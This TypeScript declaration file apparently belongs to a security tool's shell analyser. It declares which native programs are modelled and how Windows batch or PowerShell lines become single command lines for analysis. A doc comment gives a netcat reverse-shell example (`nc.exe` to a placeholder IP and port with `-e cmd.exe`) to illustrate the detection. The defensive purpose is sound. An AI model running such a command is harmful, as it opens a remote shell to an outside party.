/**
 * Native programs whose behaviour the shell analyser models (package managers and installers, agent CLIs,
 * interpreters, privilege tools, network tools such as `nc`, schedulers, containers). A PowerShell or
 * batch line that starts one of them is handed to the shell analyser as one command line, so
 * `C:\tools\nc.exe 203.0.113.9 4444 -e cmd.exe` in a `.cmd` file is read like `nc … -e cmd.exe` in bash.
 * Names are lower-cased, without a directory; each host language strips or keeps `.exe` itself. Program
 * names, not runtime ids: kept as one string, with the agent CLIs from the shell analyser's own list.
 */
export declare const SHELL_MODELLED_PROGRAMS: readonly string[];
/** Whether the shell analyser models `name` (`pip3`, `python3.12` included; `curl` left to the caller). */
export declare function modelledByShell(name: string): boolean;
/** One command line for the shell analyser: words quoted where the shell would split or expand them. */
export declare function shellCommandLine(name: string, words: readonly string[]): string;
